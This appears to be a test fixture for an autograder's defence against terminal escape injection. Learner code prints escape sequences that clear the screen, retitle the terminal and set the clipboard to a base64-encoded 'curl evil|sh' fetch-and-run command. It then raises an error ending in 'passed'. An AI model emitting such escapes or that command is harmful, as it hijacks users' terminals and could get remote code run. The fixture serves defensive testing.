# attack: sends escapes that change the terminal, its title and its clipboard
# row: 38
# aims at: 90.1
# stopped by: control characters are replaced
# expect verdict: learner_crashed
# expect message: your code raised
def total(numbers):
    escapes = '\x1b[2J\x1b[H\x1b]0;title\x07\x1b]52;c;Y3VybCBldmlsfHNo\x07\x9b31m\x08\x08\x08\r\x7f\x1bP$q'
    tell(escapes)
    raise ValueError(escapes + 'passed')
